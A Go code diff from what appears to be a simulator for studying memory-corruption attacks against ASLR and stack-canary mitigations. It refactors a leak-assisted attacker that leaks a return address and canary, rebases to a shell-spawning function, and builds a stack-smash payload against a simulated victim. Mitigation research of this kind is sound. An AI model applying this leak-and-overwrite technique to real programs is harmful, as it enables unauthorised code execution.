@@ -53,21 +53,11 @@ func (r Recon) LocalAddr(f layout.Frame, i int) uint32 {
 	return r.MainEBP + uint32(f.Offs[i])
 }
 
-// ReconNominal builds attacker knowledge by loading the attacker's own
-// copy of the victim at the nominal layout and reading symbols — exactly
-// what an attacker with the binary does offline. Because the nominal
-// probe is seed-independent, the result is content-cached (see
-// cache.go): repeated trials of one cell perform the reconnaissance
-// pass — probe load, symbol reads, gadget mining — exactly once.
-func ReconNominal(s Scenario, m Mitigations) (Recon, error) {
-	return reconNominal(s, m, true)
-}
-
 // reconProbe is the uncached reconnaissance pass: it assumes the caller
 // already cleared probe.ASLR (recon happens on the attacker's machine).
-func reconProbe(s Scenario, probe Mitigations, counted bool) (Recon, error) {
+func reconProbe(s Scenario, probe Mitigations) (Recon, error) {
 	m := probe
-	p, err := buildVictimVia(s, probe, counted)
+	p, err := BuildVictim(s, probe)
 	if err != nil {
 		return Recon{}, err
 	}
@@ -170,17 +160,11 @@ type AttackSpec struct {
 	Goal Oracle
 }
 
-// Scenario instantiates the runnable scenario for a mitigation config.
+// Scenario instantiates the runnable scenario for a mitigation config:
+// one counted recon lookup, then a fresh attacker built from it.
 func (a AttackSpec) Scenario(m Mitigations) (Scenario, error) {
-	return a.scenarioVia(m, true)
-}
-
-// scenarioVia is Scenario with an explicit cache access mode (see
-// cache.go): warm-instance construction passes counted=false so its
-// recon lookups never move the deterministic cache counters.
-func (a AttackSpec) scenarioVia(m Mitigations, counted bool) (Scenario, error) {
 	s := Scenario{Name: a.Name, Source: a.Victim, Goal: a.Goal}
-	r, err := reconNominal(s, m, counted)
+	r, err := ReconNominal(s, m)
 	if err != nil {
 		return Scenario{}, err
 	}
@@ -588,38 +572,59 @@ func buildLeakAssisted(r Recon, m Mitigations) kernel.InputSource {
 	// starting at buf, so every leak offset is "slot offset − buf offset"
 	// in the profile's frame. The same arithmetic gives the smash offsets.
 	f := r.Profile.Frame(m.Canary, 16, 4)
-	retOff := f.RetOffFrom(0)                // buf → return address
 	canaryOff, crossed := f.CanaryOffFrom(0) // buf → canary, if above buf
-	bufAddr := r.LocalAddr(f, 0)
-	step := 0
-	return kernel.InputFunc(func(max int, out []byte) []byte {
-		step++
-		switch step {
-		case 1:
-			return words(64) // leak length
-		case 2:
-			return []byte("AAAAAAAAAAAAAAAA") // fill the buffer
-		case 3:
-			if len(out) < retOff+4 {
-				return nil
-			}
-			leakedRet := le.Uint32(out[retOff:])
-			// Rebase: the leaked return address is _start+5 in the
-			// *actual* layout; spawn_shell follows at a fixed delta.
-			spawn := leakedRet + (r.SpawnShell - r.StartRet)
-			s := &attack.SmashSpec{
-				RetOff:    retOff,
-				Ret:       spawn,
-				EBP:       bufAddr,
-				CanaryOff: -1,
-			}
-			// A canary only matters (and is only leakable) when it
-			// sits between the buffer and the return address.
-			if m.Canary && crossed && len(out) >= canaryOff+4 {
-				s.WithCanary(canaryOff, le.Uint32(out[canaryOff:]))
-			}
-			return s.Build()
+	return &leakAssisted{
+		retOff:     f.RetOffFrom(0), // buf → return address
+		canaryOff:  canaryOff,
+		leakCanary: m.Canary && crossed,
+		bufAddr:    r.LocalAddr(f, 0),
+		spawnDelta: r.SpawnShell - r.StartRet,
+	}
+}
+
+// leakAssisted is buildLeakAssisted's attacker: a state machine over the
+// victim's three reads. Its state is one step counter, so it clones like
+// a script and every run of a scenario replays the whole attack.
+type leakAssisted struct {
+	retOff, canaryOff int
+	// leakCanary: a canary sits between the buffer and the return
+	// address, so it is both leakable and in the smash's way.
+	leakCanary bool
+	bufAddr    uint32
+	spawnDelta uint32 // spawn_shell − the return address into _start
+	step       int
+}
+
+// NextInput implements kernel.InputSource.
+func (l *leakAssisted) NextInput(_ int, out []byte) []byte {
+	l.step++
+	switch l.step {
+	case 1:
+		return words(64) // leak length
+	case 2:
+		return []byte("AAAAAAAAAAAAAAAA") // fill the buffer
+	case 3:
+		if len(out) < l.retOff+4 {
+			return nil
 		}
-		return nil
-	})
+		// Rebase: the leaked return address is _start's return site in
+		// the *actual* layout; spawn_shell follows at a fixed delta.
+		s := &attack.SmashSpec{
+			RetOff:    l.retOff,
+			Ret:       le.Uint32(out[l.retOff:]) + l.spawnDelta,
+			EBP:       l.bufAddr,
+			CanaryOff: -1,
+		}
+		if l.leakCanary && len(out) >= l.canaryOff+4 {
+			s.WithCanary(l.canaryOff, le.Uint32(out[l.canaryOff:]))
+		}
+		return s.Build()
+	}
+	return nil
+}
+
+// CloneInput implements the cloning contract of kernel.CloneInput.
+func (l *leakAssisted) CloneInput() kernel.InputSource {
+	c := *l
+	return &c
 }
